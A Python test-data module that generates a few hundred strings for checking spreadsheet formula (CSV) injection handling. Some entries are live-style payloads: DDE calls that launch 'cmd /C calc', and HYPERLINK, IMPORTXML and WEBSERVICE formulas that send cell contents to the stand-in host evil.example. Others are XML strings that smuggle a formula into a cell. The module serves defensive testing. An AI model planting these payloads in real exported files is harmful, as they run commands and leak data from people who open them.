"""Three hundred texts that some spreadsheet has taken for more than text, and some that only look strange."""

from __future__ import annotations

from itertools import product

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "'=",
    "''=",
    " =",
    "\u200b=",
    "\u200f@",
    '"=',
    "\ufeff+",
)
BODIES = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"Click")',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    'WEBSERVICE("http://evil.example")',
    'DDE("cmd";"/C calc";"x")',
    "2+5+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'A1,"B";\r\nC',
    "",
    "12",
    "Ana y Luis",
    "رقم",
)
OTHERS = (
    "12", "00123", "1e5", "1,200", "TRUE", "2026-11-23", "http://evil.example", "mailto:a@example.org", "internal:A1",
    "external:c:/x.xlsx", "file://x", "<r><t>x</t></r>", "<r></is></c><c r=\"A9\"><f>1+1</f></c><c><is></r>",
    "<f>1+1</f>", "&lt;f&gt;", "{=SUM(1)}", "_x0041_", "_x000D_", "a\rb", "a\r\nb", "a\nb", "a\tb", "\x01\x02", "\x0b",
    "'", "''", "'text", "\"quoted\"", "\"", ",", ";", "|", "%0A=1+1", "sep=;", "a,b", "\u2028", " leading", "trailing ",
    "\U0001f642", "Ամեն ինչ", "مرحبا", "ខ្មែរ", "\u202e=1+1", "x" * 20_000, "[Red]", "#REF!", "#N/A", "ID",
)  # fmt: skip
PAYLOADS = tuple(dict.fromkeys([*map("".join, product(STARTS, BODIES)), *OTHERS]))
